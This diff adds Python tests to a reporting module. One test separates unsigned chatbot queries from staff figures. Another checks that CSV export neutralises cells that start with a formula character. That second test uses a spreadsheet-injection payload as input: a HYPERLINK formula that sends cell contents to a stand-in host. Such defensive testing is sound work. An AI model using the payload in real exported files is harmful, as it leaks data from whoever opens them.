@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
+import io
 
 import pytest
 from sqlalchemy import insert, select
@@ -232,3 +234,54 @@ def test_community_engagement_is_recorded_only_after_release(cases: Database, kn
     store.record_event(cases, "A4000AA", "community_engagement", D(2026, 7, 6), 1, D(2026, 7, 10))
     second = reports.minimum_data_set(cases, knowledge, reports.Period.parse("2026H2"))
     assert second.rows[-1][1:] == (1, 100.0)
+
+
+def _unsigned(db: Database, *rows: tuple[dt.datetime, str, bool]) -> None:
+    with db.transaction() as session:
+        session.execute(
+            insert(GuidanceQuery),
+            [
+                dict(
+                    at=when,
+                    week=week_of(when),
+                    staff_id=None,
+                    text=text,
+                    topic="nlu_fallback",
+                    fell_back=fell,
+                    action="a",
+                )
+                for when, text, fell in rows
+            ],
+        )
+
+
+def test_staff_figures_leave_unsigned_messages_out_and_show_them_apart(log) -> None:  # type: ignore[no-untyped-def]
+    db, _, _ = log
+    _unsigned(
+        db,
+        (at("2026-11-03"), "wifi password", True),
+        (at("2026-11-03", 11), "wifi password", True),
+        (at("2026-11-10"), "what is t1", False),
+    )
+    staff = reports.QueryFilter(NOVEMBER)
+    # The staff figures are those of the staff-only log above, whatever unsigned traffic arrives.
+    assert reports.fallback_rate(db, staff).rows == [(D(2026, 11, 2), 4, 1, 25.0), (D(2026, 11, 9), 2, 1, 50.0)]
+    assert reports.top_unanswered(db, staff).rows[0][:2] == ("wifi password", 2)
+    assert sum(r[2] for r in reports.queries_per_topic_per_week(db, staff).rows) == 6
+    assert "Staff queries only" in reports.fallback_rate(db, staff).notes[-1]
+    unsigned = reports.unsigned_queries(db, staff)
+    assert unsigned.rows == [(D(2026, 11, 2), 2, 2), (D(2026, 11, 9), 1, 0)]
+    assert unsigned.columns == ["week", "unsigned queries", "fell back"]
+    everyone = reports.QueryFilter(NOVEMBER, signed=None)
+    assert reports.fallback_rate(db, everyone).rows == [(D(2026, 11, 2), 6, 3, 50.0), (D(2026, 11, 9), 3, 1, 33.3)]
+    assert reports.top_unanswered(db, reports.QueryFilter(NOVEMBER, signed=False)).rows[0][:2] == ("wifi password", 2)
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_that_would_start_a_formula_are_neutralised(start: str) -> None:
+    text = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
+    report = reports.Report("x", "x", ["question", "times asked"], [(text, 3), ("plain -dash inside", -1)])
+    rows = list(csv.reader(io.StringIO(report.csv())))
+    assert rows[1] == ["'" + text, "3"]
+    # Text that only holds those characters later, and numbers (negative ones too), stay as they are.
+    assert rows[2] == ["plain -dash inside", "-1"]
